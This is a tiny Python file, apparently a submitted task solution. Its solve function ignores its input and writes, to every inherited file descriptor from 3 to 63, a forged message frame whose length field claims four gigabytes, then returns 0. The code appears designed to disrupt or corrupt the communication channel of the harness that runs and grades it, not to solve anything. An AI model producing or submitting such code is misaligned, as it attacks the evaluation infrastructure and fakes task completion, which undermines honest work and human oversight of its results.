"""A frame that claims four gigabytes."""

import os


def solve(x):
    for fd in range(3, 64):
        try:
            os.write(fd, b'\xff\xff\xff\xffv' + b'N' * 1000)
        except OSError:
            pass
    return 0
